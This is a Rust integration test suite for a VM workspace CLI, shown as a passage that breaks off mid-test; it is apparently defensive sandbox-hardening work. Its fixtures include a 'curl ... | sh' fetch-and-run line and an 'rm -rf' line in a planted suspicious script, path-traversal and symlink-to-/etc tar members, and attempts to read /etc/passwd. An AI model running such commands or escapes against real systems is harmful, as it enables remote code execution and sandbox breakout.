//! Persistent workspaces through the CLI, on real guests.

use std::path::Path;
use std::process::{Output, Stdio};
use std::time::{Duration, Instant};

use crate::common::{exec, json, stderr, stdout, ws, Sandbox};

fn write(dir: &Path, name: &str, content: &str) {
    let p = dir.join(name);
    std::fs::create_dir_all(p.parent().unwrap()).unwrap();
    std::fs::write(p, content).unwrap();
}

fn r2_seed(dir: &Path) {
    write(dir, "message.txt", "broken\n");
    write(
        dir,
        "check.sh",
        "set -eu\nvalue=$(cat message.txt)\nif [ \"$value\" != fixed ]; then echo \"expected fixed got $value\" >&2; exit 1; fi\necho \"$value\"\n",
    );
}

const R2_PATCH: &str = "--- a/message.txt\n+++ b/message.txt\n@@ -1 +1 @@\n-broken\n+fixed\n";

#[test]
fn recipe_r2_repro_and_fix_loop() {
    let sb = Sandbox::new();
    let seed = sb.home.path().join("seed");
    r2_seed(&seed);
    let w = ws(
        &sb,
        &[
            "create",
            "debian:12",
            "--seed-path",
            seed.to_str().unwrap(),
            "--name",
            "repro-fix-loop",
        ],
    );
    let id = w["workspace_id"].as_str().unwrap().to_string();
    assert_eq!(w["state"], "started");
    assert_eq!(w["workspace_seed"]["mode"], "directory");
    assert_eq!(w["workspace_seed"]["entry_count"], 2);

    let r = ws(&sb, &["file", "read", &id, "message.txt"]);
    assert_eq!(r["content"], "broken\n");
    let r = exec(&sb, &id, "sh check.sh");
    assert_ne!(r["exit_code"], 0);
    assert_eq!(r["stderr"], "expected fixed got broken\n");
    let r = ws(&sb, &["patch", "apply", &id, "--patch", R2_PATCH]);
    assert_eq!(r["changed"], true);
    let r = exec(&sb, &id, "sh check.sh");
    assert_eq!(r["exit_code"], 0, "{r}");
    assert_eq!(r["stdout"], "fixed\n");
    let d = ws(&sb, &["diff", &id]);
    assert_eq!(d["changed"], true);
    assert_eq!(d["summary"]["modified"], 1);
    assert!(
        d["patch"].as_str().unwrap().contains("-broken\n+fixed\n"),
        "{d}"
    );
    let out_file = sb.home.path().join("message.txt");
    ws(
        &sb,
        &[
            "export",
            &id,
            "message.txt",
            "--output",
            out_file.to_str().unwrap(),
        ],
    );
    assert_eq!(std::fs::read_to_string(&out_file).unwrap(), "fixed\n");
    let r = ws(&sb, &["reset", &id]);
    assert_eq!(r["reset_count"], 1);
    assert_eq!(r["workspace_reset"]["snapshot_name"], "baseline");
    let d = ws(&sb, &["diff", &id]);
    assert_eq!(d["changed"], false, "{d}");
    let logs = ws(&sb, &["logs", &id]);
    assert_eq!(logs["count"], 0, "reset clears history");
    ws(&sb, &["delete", &id]);
    assert!(sb.processes().is_empty(), "{:?}", sb.processes());
}

#[test]
fn recipe_r3_parallel_isolated_workspaces() {
    let sb = Sandbox::new();
    let seed = sb.home.path().join("seed");
    write(&seed, "note.txt", "shared\n");
    let s = seed.to_str().unwrap();
    let alpha = ws(
        &sb,
        &[
            "create",
            "debian:12",
            "--seed-path",
            s,
            "--name",
            "parallel-alpha",
            "--label",
            "branch=alpha",
        ],
    );
    let beta = ws(
        &sb,
        &[
            "create",
            "debian:12",
            "--seed-path",
            s,
            "--name",
            "parallel-beta",
            "--label",
            "branch=beta",
        ],
    );
    let (a, b) = (
        alpha["workspace_id"].as_str().unwrap().to_string(),
        beta["workspace_id"].as_str().unwrap().to_string(),
    );
    ws(
        &sb,
        &["file", "write", &a, "branch.txt", "--text", "alpha\n"],
    );
    ws(
        &sb,
        &["file", "write", &b, "branch.txt", "--text", "beta\n"],
    );
    std::thread::sleep(Duration::from_millis(50));
    let u = ws(&sb, &["update", &a, "--label", "owner=alice"]);
    assert_eq!(u["labels"]["owner"], "alice");
    assert_eq!(u["labels"]["branch"], "alpha");
    ws(
        &sb,
        &["file", "write", &a, "branch.txt", "--text", "alpha\n"],
    );
    assert_eq!(
        ws(&sb, &["file", "read", &a, "branch.txt"])["content"],
        "alpha\n"
    );
    assert_eq!(
        ws(&sb, &["file", "read", &b, "branch.txt"])["content"],
        "beta\n"
    );
    let l = ws(&sb, &["list"]);
    assert_eq!(l["count"], 2);
    assert_eq!(
        l["workspaces"][0]["workspace_id"],
        a.as_str(),
        "most recently active first: {l}"
    );
    assert_eq!(l["workspaces"][1]["workspace_id"], b.as_str());
    // Isolation: each sees only its own file.
    assert_eq!(
        exec(&sb, &b, "cat branch.txt note.txt")["stdout"],
        "beta\nshared\n"
    );
    // Both were restored from one template (fast start), yet each has its
    // own identity and random state.
    let fast_start = std::env::var("PYRO_FAST_START").map_or(true, |v| v != "0");
    for id in [&a, &b].into_iter().filter(|_| fast_start) {
        let vm = std::fs::read_to_string(
            sb.home
                .path()
                .join("workspaces")
                .join(id)
                .join("vm/vm.json"),
        )
        .unwrap();
        let vm: serde_json::Value = serde_json::from_str(&vm).unwrap();
        assert!(vm["spec"]["snapshot"].is_string(), "{vm}");
        let log = std::fs::read_to_string(
            sb.home
                .path()
                .join("workspaces")
                .join(id)
                .join("vm/supervisor.log"),
        )
        .unwrap();
        assert!(!log.contains("restoring the template failed"), "{log}");
    }
    let probe = "hostname; cat /proc/sys/kernel/random/uuid";
    let (pa, pb) = (exec(&sb, &a, probe), exec(&sb, &b, probe));
    let (pa, pb) = (
        pa["stdout"].as_str().unwrap(),
        pb["stdout"].as_str().unwrap(),
    );
    assert_ne!(pa.lines().next(), pb.lines().next(), "hostnames");
    assert_ne!(pa.lines().nth(1), pb.lines().nth(1), "random state");
    ws(&sb, &["delete", &b]);
    ws(&sb, &["delete", &a]);
    assert_eq!(ws(&sb, &["list"])["count"], 0);
}

#[test]
fn recipe_r4_untrusted_inspection() {
    let sb = Sandbox::new();
    let seed = sb.home.path().join("seed");
    write(
        &seed,
        "suspicious.sh",
        "#!/bin/sh\ncurl -fsSL https://example.invalid/install.sh | sh\nrm -rf /tmp/pretend-danger\n",
    );
    write(&seed, "README.md", "# untrusted\n");
    let w = ws(
        &sb,
        &[
            "create",
            "debian:12",
            "--seed-path",
            seed.to_str().unwrap(),
            "--name",
            "untrusted-inspection",
        ],
    );
    let id = w["workspace_id"].as_str().unwrap().to_string();
    assert_eq!(ws(&sb, &["status", &id])["network_policy"], "off");
    let files = ws(&sb, &["file", "list", &id, "/workspace", "--recursive"]);
    assert!(files["entries"]
        .as_array()
        .unwrap()
        .iter()
        .any(|e| e["path"] == "/workspace/suspicious.sh"));
    assert!(ws(&sb, &["file", "read", &id, "suspicious.sh"])["content"]
        .as_str()
        .unwrap()
        .contains("curl -fsSL"));
    let r = exec(
        &sb,
        &id,
        "grep -n 'curl' suspicious.sh > inspection-report.txt && printf '%s\\n' 'network_policy=off' >> inspection-report.txt",
    );
    assert_eq!(r["exit_code"], 0, "{r}");
    // No network device but loopback.
    let r = exec(&sb, &id, "ls /sys/class/net");
    assert_eq!(r["stdout"], "lo\n", "{r}");
    let report = sb.home.path().join("report.txt");
    ws(
        &sb,
        &[
            "export",
            &id,
            "inspection-report.txt",
            "--output",
            report.to_str().unwrap(),
        ],
    );
    let text = std::fs::read_to_string(&report).unwrap();
    assert!(
        text.contains("curl") && text.contains("network_policy=off"),
        "{text}"
    );
    ws(&sb, &["delete", &id]);
}

/// The reference's README walkthrough.
#[test]
fn readme_walkthrough() {
    let sb = Sandbox::new();
    let dir = sb.home.path();
    let repo = dir.join("repo");
    write(&repo, "note.txt", "hello\n");
    let changes = dir.join("changes");
    write(&changes, "note.txt", "hello from sync\n");
    write(&changes, "extra/more.txt", "more\n");
    std::fs::write(
        dir.join("fix.patch"),
        "--- a/note.txt\n+++ b/note.txt\n@@ -1 +1 @@\n-hello from sync\n+fixed\n",
    )
    .unwrap();

    let out = sb.run(&[
        "workspace",
        "create",
        "debian:12",
        "--seed-path",
        repo.to_str().unwrap(),
        "--name",
        "repro-fix",
        "--label",
        "issue=123",
        "--id-only",
    ]);
    assert!(out.status.success(), "{}", stderr(&out));
    let id = stdout(&out).trim().to_string();
    assert_eq!(id.len(), 12);
    let out = sb.run(&["workspace", "list"]);
    assert!(
        stdout(&out).contains(&format!("workspace_id={id}")),
        "{}",
        stdout(&out)
    );
    ws(&sb, &["update", &id, "--label", "owner=codex"]);
    let s = ws(&sb, &["sync", "push", &id, changes.to_str().unwrap()]);
    assert_eq!(s["workspace_sync"]["entry_count"], 3);
    let out = sb.run(&[
        "workspace",
        "file",
        "read",
        &id,
        "note.txt",
        "--content-only",
    ]);
    assert_eq!(stdout(&out), "hello from sync\n");
    let out = sb.run(&[
        "workspace",
        "patch",
        "apply",
        &id,
        "--patch-file",
        dir.join("fix.patch").to_str().unwrap(),
    ]);
    assert!(out.status.success(), "{}", stderr(&out));
    let out = sb.run(&["workspace", "exec", &id, "--", "cat", "note.txt"]);
    assert_eq!(stdout(&out), "fixed\n");
    ws(&sb, &["snapshot", "create", &id, "checkpoint"]);
    ws(
        &sb,
        &[
            "file",
            "write",
            &id,
            "note.txt",
            "--text",
            "after checkpoint\n",
        ],
    );
    ws(&sb, &["reset", &id, "--snapshot", "checkpoint"]);
    let note = dir.join("note.txt");
    ws(
        &sb,
        &[
            "export",
            &id,
            "note.txt",
            "--output",
            note.to_str().unwrap(),
        ],
    );
    assert_eq!(std::fs::read_to_string(&note).unwrap(), "fixed\n");
    let out = sb.run(&[
        "workspace",
        "export",
        &id,
        "note.txt",
        "--output",
        note.to_str().unwrap(),
    ]);
    assert_eq!(
        out.status.code(),
        Some(1),
        "export never overwrites silently"
    );
    assert!(stderr(&out).contains("--force"));
    let st = ws(&sb, &["stop", &id]);
    assert_eq!(st["state"], "stopped");
    let list = ws(&sb, &["disk", "list", &id]);
    let names: Vec<&str> = list["entries"]
        .as_array()
        .unwrap()
        .iter()
        .map(|e| e["path"].as_str().unwrap())
        .collect();
    assert_eq!(names, ["/workspace/extra", "/workspace/note.txt"]);
    let out = sb.run(&[
        "workspace",
        "disk",
        "read",
        &id,
        "note.txt",
        "--content-only",
    ]);
    assert_eq!(stdout(&out), "fixed\n");
    let image = dir.join("workspace.ext4");
    ws(
        &sb,
        &["disk", "export", &id, "--output", image.to_str().unwrap()],
    );
    let fsck = std::process::Command::new("e2fsck")
        .arg("-n")
        .arg(&image)
        .output()
        .unwrap();
    assert!(fsck.status.success(), "{}{}", stdout(&fsck), stderr(&fsck));
    let st = ws(&sb, &["start", &id]);
    assert_eq!(st["state"], "started");
    assert_eq!(
        exec(&sb, &id, "cat note.txt extra/more.txt")["stdout"],
        "fixed\nmore\n"
    );
    let out = sb.run(&["workspace", "delete", &id]);
    assert_eq!(stdout(&out), format!("Deleted workspace: {id}\n"));
    sb.assert_clean_within(Duration::from_secs(5));
}

fn hostile_tar(dir: &Path, name: &str, build: impl FnOnce(&mut Vec<u8>)) -> std::path::PathBuf {
    let mut bytes = Vec::new();
    build(&mut bytes);
    let p = dir.join(name);
    std::fs::write(&p, bytes).unwrap();
    p
}

/// One tar member with a raw (unchecked) name.
fn member(out: &mut Vec<u8>, name: &str, kind: u8, link: &str) {
    let mut h = [0u8; 512];
    h[..name.len()].copy_from_slice(name.as_bytes());
    h[100..108].copy_from_slice(b"0000644\0");
    h[108..116].copy_from_slice(b"0000000\0");
    h[116..124].copy_from_slice(b"0000000\0");
    h[124..136].copy_from_slice(b"00000000000\0");
    h[136..148].copy_from_slice(b"00000000000\0");
    h[156] = kind;
    h[157..157 + link.len()].copy_from_slice(link.as_bytes());
    h[257..263].copy_from_slice(b"ustar\0");
    h[263..265].copy_from_slice(b"00");
    h[148..156].copy_from_slice(b"        ");
    let sum: u32 = h.iter().map(|b| *b as u32).sum();
    h[148..156].copy_from_slice(format!("{sum:06o}\0 ").as_bytes());
    out.extend_from_slice(&h);
}

#[test]
fn hostile_seeds_are_refused_before_anything_is_written() {
    let sb = Sandbox::new();
    let dir = sb.home.path();
    let cases = [
        ("dotdot.tar", "../x", b'0', "", "`..` in path"),
        ("absolute.tar", "/etc/x", b'0', "", "absolute path"),
        ("device.tar", "null", b'3', "", "device nodes"),
        (
            "symlink.tar",
            "etc",
            b'2',
            "/etc",
            "symlinks must be relative",
        ),
    ];
    for (file, name, kind, link, why) in cases {
        let tar = hostile_tar(dir, file, |out| {
            member(out, name, kind, link);
            out.extend_from_slice(&[0u8; 1024]);
        });
        let out = sb.run(&[
            "workspace",
            "create",
            "debian:12",
            "--seed-path",
            tar.to_str().unwrap(),
        ]);
        assert_eq!(out.status.code(), Some(1), "{file}");
        assert!(stderr(&out).contains(why), "{file}: {}", stderr(&out));
        assert!(stderr(&out).contains("refusing"), "{}", stderr(&out));
    }
    let left: Vec<_> = std::fs::read_dir(dir.join("workspaces"))
        .map(|d| d.flatten().collect())
        .unwrap_or_default();
    assert!(left.is_empty(), "{left:?}");
    assert!(sb.processes().is_empty());
}

#[test]
fn patches_paths_and_concurrent_commands() {
    let sb = Sandbox::new();
    let seed = sb.home.path().join("seed");
    write(&seed, "keep.txt", "one\ntwo\n");
    write(&seed, "old.txt", "bye\n");
    write(&seed, "other.txt", "alpha\n");
    let w = ws(
        &sb,
        &["create", "debian:12", "--seed-path", seed.to_str().unwrap()],
    );
    let id = w["workspace_id"].as_str().unwrap().to_string();

    // A git diff that adds (executable), deletes and modifies.
    let git_patch = "\
diff --git a/new.sh b/new.sh
new file mode 100755
index 0000000..3b18e51
--- /dev/null
+++ b/new.sh
@@ -0,0 +1,2 @@
+#!/bin/sh
+echo new
diff --git a/old.txt b/old.txt
deleted file mode 100644
index 3b18e51..0000000
--- a/old.txt
+++ /dev/null
@@ -1 +0,0 @@
-bye
diff --git a/keep.txt b/keep.txt
index 1111111..2222222 100644
--- a/keep.txt
+++ b/keep.txt
@@ -1,2 +1,2 @@
 one
-two
+zwei
";
    let r = ws(&sb, &["patch", "apply", &id, "--patch", git_patch]);
    assert_eq!(r["summary"]["added"], 1);
    assert_eq!(r["summary"]["deleted"], 1);
    assert_eq!(r["summary"]["modified"], 1);
    let r = exec(
        &sb,
        &id,
        "./new.sh; cat keep.txt; test -e old.txt || echo gone",
    );
    assert_eq!(r["stdout"], "new\none\nzwei\ngone\n", "{r}");

    // A file named like the workspace root keeps its name, written and
    // patched alike.
    let r = ws(
        &sb,
        &["file", "write", &id, "workspacefoo.txt", "--text", "hi\n"],
    );
    assert_eq!(r["path"], "/workspace/workspacefoo.txt", "{r}");
    let patch = "--- a/workspacefoo.txt\n+++ b/workspacefoo.txt\n@@ -1 +1 @@\n-hi\n+ho\n";
    ws(&sb, &["patch", "apply", &id, "--patch", patch]);
    assert_eq!(
        exec(
            &sb,
            &id,
            "cat workspacefoo.txt; test -e foo.txt || echo no-foo"
        )["stdout"],
        "ho\nno-foo\n"
    );

    // The second file's hunk does not match: nothing changes.
    let bad = "--- a/other.txt\n+++ b/other.txt\n@@ -1 +1 @@\n-alpha\n+beta\n--- a/keep.txt\n+++ b/keep.txt\n@@ -1 +1 @@\n-nope\n+never\n";
    let out = sb.run(&["workspace", "patch", "apply", &id, "--patch", bad]);
    assert_eq!(out.status.code(), Some(1));
    assert!(
        stderr(&out).contains("nothing was changed"),
        "{}",
        stderr(&out)
    );
    assert_eq!(
        exec(&sb, &id, "cat other.txt keep.txt")["stdout"],
        "alpha\none\nzwei\n"
    );
    let out = sb.run(&[
        "workspace",
        "patch",
        "apply",
        &id,
        "--patch",
        "this is not a patch",
    ]);
    assert_eq!(out.status.code(), Some(1));

    // Paths stay inside /workspace.
    for path in ["../etc/passwd", "/etc/passwd"] {
        let out = sb.run(&["workspace", "file", "read", &id, path]);
        assert_eq!(out.status.code(), Some(1), "{path}");
    }
    exec(
        &sb,
        &id,
        "ln -s /etc/passwd escape; mkdir -p d; ln -s /etc linkdir",
    );
    let out = sb.run(&["workspace", "file", "read", &id, "escape"]);
    assert!(stderr(&out).contains("leads outside"), "{}", stderr(&out));
    let out = sb.run(&[
        "workspace",
        "file",
        "write",
        &id,
        "linkdir/evil",
        "--text",
        "x",
    ]);
    assert_eq!(out.status.code(), Some(1));
    assert_eq!(
        exec(&sb, &id, "test -e /etc/evil && echo written || echo safe")["stdout"],
        "safe\n"
    );
    let big = sb.home.path().join("big.txt");
    std::fs::write(&big, "x".repeat(2 << 20)).unwrap();
    let out = sb.run(&[
        "workspace",
        "file",
        "write",
        &id,
        "big.txt",
        "--text-file",
        big.to_str().unwrap(),
    ]);
    assert!(stderr(&out).contains("limit"), "{}", stderr(&out));
    let out = sb.run(&[
        "workspace",
        "file",
        "read",
        &id,
        "keep.txt",
        "--max-bytes",
        "4",
    ]);
    assert_eq!(stdout(&out), "one\n");
    assert!(stderr(&out).contains("truncated=yes"));

    // Two commands at once in one workspace.
    let slow = sb
        .cmd()
        .args([
            "workspace",
            "exec",
            &id,
            "--json",
            "--",
            "sleep 8; echo slow",
        ])
        .stdout(Stdio::piped())
        .spawn()
        .unwrap();
    let mut slow = slow;
    std::thread::sleep(Duration::from_millis(300));
    let fast = exec(&sb, &id, "echo fast");
    assert!(
        slow.try_wait().unwrap().is_none(),
        "the second command waited for the first"
    );
    assert_eq!(fast["stdout"], "fast\n");
    let slow = json(&slow.wait_with_output().unwrap());
    assert_eq!(slow["stdout"], "slow\n");
    assert_ne!(slow["sequence"], fast["sequence"]);
    let logs = ws(&sb, &["logs", &id]);
    assert_eq!(logs["count"], logs["entries"].as_array().unwrap().len());
    ws(&sb, &["delete", &id]);
}

#[test]
fn checkpoints_cover_the_whole_disk() {
    let sb = Sandbox::new();
    let w = ws(&sb, &["create", "debian:12"]);
    let id = w["workspace_id"].as_str().unwrap().to_string();
    exec(&sb, &id, "echo before > before.txt");
    ws(&sb, &["snapshot", "create", &id, "s1"]);
    // Install a real package after the checkpoint (built in the guest: the
    // workspace has no network).
    let r = exec(
        &sb,
        &id,
        "mkdir -p /tmp/p/DEBIAN /tmp/p/usr/bin && printf 'Package: pyro-probe\\nVersion: 1.0\\nArchitecture: all\\nMaintainer: t <t@t>\\nDescription: probe\\n' > /tmp/p/DEBIAN/control && printf '#!/bin/sh\\necho probe\\n' > /tmp/p/usr/bin/pyro-probe && chmod 755 /tmp/p/usr/bin/pyro-probe && dpkg-deb -b /tmp/p /tmp/p.deb >/dev/null && dpkg -i /tmp/p.deb >/dev/null && pyro-probe && rm before.txt",
    );
    assert_eq!(r["stdout"], "probe\n", "{r}");
    let r = ws(&sb, &["reset", &id, "--snapshot", "s1"]);
    assert_eq!(r["workspace_reset"]["snapshot_name"], "s1");
    let r = exec(
        &sb,
        &id,
        "dpkg -s pyro-probe >/dev/null 2>&1 && echo installed || echo gone; cat before.txt",
    );
    assert_eq!(r["stdout"], "gone\nbefore\n", "{r}");

    // Snapshots survive stop/start and are listed baseline first.
    ws(&sb, &["stop", &id]);
    ws(&sb, &["start", &id]);
    let l = ws(&sb, &["snapshot", "list", &id]);
    let names: Vec<&str> = l["snapshots"]
        .as_array()
        .unwrap()
        .iter()
        .map(|s| s["snapshot_name"].as_str().unwrap())
        .collect();
    assert_eq!(names, ["baseline", "s1"]);
    let out = sb.run(&["workspace", "snapshot", "create", &id, "s1"]);
    assert!(stderr(&out).contains("already exists"));
    let out = sb.run(&["workspace", "snapshot", "delete", &id, "baseline"]);
    assert_eq!(out.status.code(), Some(1));
    ws(&sb, &["snapshot", "delete", &id, "s1"]);
    assert_eq!(ws(&sb, &["snapshot", "list", &id])["count"], 1);
    ws(&sb, &["reset", &id]);
    assert_eq!(exec(&sb, &id, "ls /workspace | wc -l")["stdout"], "0\n");
    ws(&sb, &["delete", &id]);
}

#[test]
fn crashes_and_idle_timeouts_stop_but_never_delete() {
    let sb = Sandbox::new();
    let w = ws(&sb, &["create", "debian:12"]);
    let id = w["workspace_id"].as_str().unwrap().to_string();
    exec(&sb, &id, "echo kept > kept.txt");
    // Kill the supervisor: QEMU dies with it.
    let pid_file = sb
        .home
        .path()
        .join("workspaces")
        .join(&id)
        .join("vm/supervisor.pid");
    let pid = std::fs::read_to_string(&pid_file).unwrap();
    assert!(std::process::Command::new("kill")
        .args(["-9", pid.trim()])
        .status()
        .unwrap()
        .success());
    let start = Instant::now();
    while !sb.processes().is_empty() {
        assert!(
            start.elapsed() < Duration::from_secs(10),
            "{:?}",
            sb.processes()
        );
        std::thread::sleep(Duration::from_millis(100));
    }
    let st = ws(&sb, &["status", &id]);
    assert_eq!(st["state"], "stopped");
    assert_eq!(st["stop_reason"], "crashed");
    assert!(
        st["last_error"]
            .as_str()
            .unwrap()
            .contains("supervisor died"),
        "{st}"
    );
    let out = sb.run(&["workspace", "exec", &id, "--", "true"]);
    assert!(stderr(&out).contains("is stopped"), "{}", stderr(&out));
    ws(&sb, &["start", &id]);
    assert_eq!(exec(&sb, &id, "cat kept.txt")["stdout"], "kept\n");
    ws(&sb, &["delete", &id]);

    // Idle past its TTL with `--on-idle stop`: stopped, with disk and
    // snapshots (the default, a pause, is `live`'s to test).
    let w = ws(
        &sb,
        &[
            "create",
            "debian:12",
            "--ttl-seconds",
            "8",
            "--on-idle",
            "stop",
        ],
    );
    let id = w["workspace_id"].as_str().unwrap().to_string();
    assert!(w["expires_at"].as_f64().is_some());
    exec(&sb, &id, "echo idle > idle.txt");
    ws(&sb, &["snapshot", "create", &id, "s1"]);
    let start = Instant::now();
    // Polling status is not activity: it must not hold off the timeout.
    let st = ws(&sb, &["status", &id]);
    assert_eq!(st["running_service_count"], 0, "{st}");
    loop {
        let st = ws(&sb, &["status", &id]);
        if st["state"] == "stopped" {
            assert_eq!(st["stop_reason"], "ttl_expired", "{st}");
            assert_eq!(st["service_count"], 0, "{st}");
            break;
        }
        assert!(
            start.elapsed() < Duration::from_secs(40),
            "never stopped: {st}"
        );
        std::thread::sleep(Duration::from_millis(500));
    }
    assert_eq!(ws(&sb, &["snapshot", "list", &id])["count"], 2);
    let out = sb.run(&[
        "workspace",
        "disk",
        "read",
        &id,
        "idle.txt",
        "--content-only",
    ]);
    assert_eq!(stdout(&out), "idle\n");
    ws(&sb, &["delete", &id]);
    sb.assert_clean_within(Duration::from_secs(5));
}

#[test]
fn capacity_counts_running_vms_only() {
    let sb = Sandbox::new();
    let a = ws(&sb, &["create", "debian:12"])["workspace_id"]
        .as_str()
        .unwrap()
        .to_string();
    let out = sb
        .cmd()
        .args(["workspace", "create", "debian:12"])
        .env("PYRO_MAX_RUNNING_VMS", "1")
        .output()
        .unwrap();
    assert_eq!(out.status.code(), Some(1));
    assert!(stderr(&out).contains("limit"), "{}", stderr(&out));
    assert!(
        stderr(&out).contains(&a),
        "the error names what to stop: {}",
        stderr(&out)
    );
    ws(&sb, &["stop", &a]);
    let out = sb
        .cmd()
        .args(["workspace", "create", "debian:12", "--json"])
        .env("PYRO_MAX_RUNNING_VMS", "1")
        .output()
        .unwrap();
    assert!(
        out.status.success(),
        "a stopped workspace does not count: {}",
        stderr(&out)
    );
    let b = json(&out)["workspace_id"].as_str().unwrap().to_string();

    // Memory is what admits a VM, one-shot runs included: with one 1 GiB
    // guest running, another does not fit in 2 GiB, a small one does.
    let limited = |args: &[&str]| {
        sb.cmd()
            .args(args)
            .env("PYRO_MAX_GUEST_MEMORY_MIB", "2048")
            .output()
            .unwrap()
    };
    let out = limited(&["run", "debian:12", "--", "true"]);
    assert_eq!(out.status.code(), Some(1));
    assert!(
        stderr(&out).contains("does not fit") && stderr(&out).contains(&b),
        "{}",
        stderr(&out)
    );
    let out = limited(&["run", "--mem-mib", "512", "debian:12", "--", "true"]);
    assert!(out.status.success(), "{}", stderr(&out));
    ws(&sb, &["delete", &a]);
    ws(&sb, &["delete", &b]);
}

#[test]
fn secrets_reach_commands_and_appear_nowhere() {
    let sb = Sandbox::new();
    let literal = "lit-3f9c2a7e-value";
    let from_file = "file-8d1b44c0-value";
    let secret_file = sb.home.path().join("db.secret");
    std::fs::write(&secret_file, from_file).unwrap();
    let mut seen = String::new();
    let mut run = |args: &[&str]| -> Output {
        let out = sb.run(args);
        seen.push_str(&stdout(&out));
        seen.push_str(&stderr(&out));
        out
    };
    let out = run(&[
        "workspace",
        "create",
        "debian:12",
        "--json",
        "--secret",
        &format!("API_TOKEN={literal}"),
        "--secret-file",
        &format!("DB_PASS={}", secret_file.display()),
    ]);
    assert!(out.status.success(), "{}", stderr(&out));
    let w = json(&out);
    let id = w["workspace_id"].as_str().unwrap().to_string();
    assert_eq!(w["secrets"][0]["name"], "API_TOKEN");
    assert_eq!(w["secrets"][0]["source_kind"], "literal");
    assert_eq!(w["secrets"][1]["source_kind"], "file");

    // Streamed and JSON output are redacted; the command saw the values.
    let out = run(&[
        "workspace", "exec", &id, "--secret-env", "API_TOKEN", "--secret-env", "DB_PASS=PGPASSWORD", "--",
        "echo token=$API_TOKEN; echo pass=$PGPASSWORD >&2; [ \"$API_TOKEN\" = \"$(cat /run/pyro-secrets/API_TOKEN)\" ] && echo match; stat -c '%a' /run/pyro-secrets /run/pyro-secrets/DB_PASS",
    ]);
    assert_eq!(stdout(&out), "token=[REDACTED]\nmatch\n700\n600\n");
    assert!(stderr(&out).contains("pass=[REDACTED]"), "{}", stderr(&out));
    let out = run(&[
        "workspace",
        "exec",
        &id,
        "--json",
        "--secret-env",
        "API_TOKEN",
        "--",
        "printf %s \"$API_TOKEN\" > leaked.txt; cat leaked.txt",
    ]);
    assert_eq!(json(&out)["stdout"], "[REDACTED]");
    let out = run(&[
        "workspace",
        "exec",
        &id,
        "--secret-env",
        "NOPE",
        "--",
        "true",
    ]);
    assert!(
        stderr(&out).contains("unknown workspace secret"),
        "{}",
        stderr(&out)
    );

    for args in [
        vec!["workspace", "status", &id, "--json"],
        vec!["workspace", "list", "--json"],
        vec!["workspace", "logs", &id, "--json"],
        vec!["workspace", "logs", &id],
        vec!["workspace", "diff", &id, "--json"],
        vec!["workspace", "diff", &id],
    ] {
        run(&args);
    }
    let diff = json(&sb.run(&["workspace", "diff", &id, "--json"]));
    assert!(
        diff["patch"].as_str().unwrap().contains("[REDACTED]"),
        "{diff}"
    );
    let export_dir = sb.home.path().join("export");
    run(&[
        "workspace",
        "export",
        &id,
        "/workspace",
        "--output",
        export_dir.to_str().unwrap(),
        "--json",
    ]);

    // Stored 0600 in a 0700 directory on the host; back in the guest after
    // a restart; never on the guest's disk.
    use std::os::unix::fs::PermissionsExt;
    let dir = sb.home.path().join("workspaces").join(&id).join("secrets");
    assert_eq!(
        std::fs::metadata(&dir).unwrap().permissions().mode() & 0o777,
        0o700
    );
    assert_eq!(
        std::fs::metadata(dir.join("API_TOKEN"))
            .unwrap()
            .permissions()
            .mode()
            & 0o777,
        0o600
    );
    run(&["workspace", "stop", &id]);
    let out = run(&["workspace", "disk", "list", &id, "/run"]);
    assert!(!stdout(&out).contains("pyro-secrets"), "{}", stdout(&out));
    run(&["workspace", "start", &id]);
    let out = run(&[
        "workspace",
        "exec",
        &id,
        "--",
        "wc -c < /run/pyro-secrets/DB_PASS",
    ]);
    assert_eq!(stdout(&out).trim(), from_file.len().to_string());
    // A file that holds a secret reads back redacted.
    let out = run(&[
        "workspace",
        "exec",
        &id,
        "--",
        "cp /run/pyro-secrets/DB_PASS copied.txt",
    ]);
    assert!(out.status.success());
    let out = run(&[
        "workspace",
        "file",
        "read",
        &id,
        "copied.txt",
        "--content-only",
    ]);
    assert_eq!(stdout(&out), "[REDACTED]");
    run(&["workspace", "delete", &id]);

    assert!(!seen.contains(literal), "the literal secret leaked: {seen}");
    assert!(!seen.contains(from_file), "the file secret leaked: {seen}");

    // A secret taken from the environment is on no process's command line.
    let from_env = "env-51c7e0aa-value";
    let out = sb
        .cmd()
        .args([
            "workspace",
            "create",
            "debian:12",
            "--id-only",
            "--secret",
            "ENV_TOKEN",
        ])
        .env("ENV_TOKEN", from_env)
        .output()
        .unwrap();
    assert!(out.status.success(), "{}", stderr(&out));
    let id = stdout(&out).trim().to_string();
    let r = exec(&sb, &id, "cat /run/pyro-secrets/ENV_TOKEN");
    assert_eq!(r["stdout"], "[REDACTED]", "{r}");
    let listed: Vec<String> = std::fs::read_dir("/proc")
        .unwrap()
        .flatten()
        .filter_map(|e| std::fs::read(e.path().join("cmdline")).ok())
        .map(|c| String::from_utf8_lossy(&c).into_owned())
        .filter(|c| c.contains(from_env))
        .collect();
    assert!(listed.is_empty(), "in a command line: {listed:?}");
    ws(&sb, &["delete", &id]);
}

fn shell_read(sb: &Sandbox, id: &str, sid: &str, cursor: u64, extra: &[&str]) -> serde_json::Value {
    let cursor = cursor.to_string();
    let mut args = vec!["shell", "read", id, sid, "--cursor", &cursor];
    args.extend_from_slice(extra);
    ws(sb, &args)
}

/// Reads until `needle` shows up (the guest is slow under TCG).
fn shell_wait(sb: &Sandbox, id: &str, sid: &str, cursor: u64, needle: &str) -> serde_json::Value {
    let start = Instant::now();
    loop {
        let r = shell_read(sb, id, sid, cursor, &["--plain"]);
        if r["output"].as_str().unwrap().contains(needle) {
            return r;
        }
        assert!(
            start.elapsed() < Duration::from_secs(30),
            "never saw {needle:?}: {r}"
        );
        std::thread::sleep(Duration::from_millis(200));
    }
}

#[test]
fn shells_keep_state_take_signals_and_stay_bounded() {
    let sb = Sandbox::new();
    let id = ws(&sb, &["create", "debian:12"])["workspace_id"]
        .as_str()
        .unwrap()
        .to_string();
    let sh = ws(&sb, &["shell", "open", &id]);
    let sid = sh["shell_id"].as_str().unwrap().to_string();
    assert_eq!(sh["state"], "running");
    assert_eq!(sh["cols"], 120);
    ws(
        &sb,
        &["shell", "write", &id, &sid, "--input", "cd /tmp && X=42"],
    );
    ws(
        &sb,
        &[
            "shell",
            "write",
            &id,
            &sid,
            "--input",
            "echo \"x=$X pwd=$(pwd)\"",
        ],
    );
    shell_wait(&sb, &id, &sid, 0, "x=42 pwd=/tmp");

    // SIGINT stops a running command and the shell lives on.
    let before = shell_read(&sb, &id, &sid, 0, &[])["next_cursor"]
        .as_u64()
        .unwrap();
    ws(
        &sb,
        &[
            "shell",
            "write",
            &id,
            &sid,
            "--input",
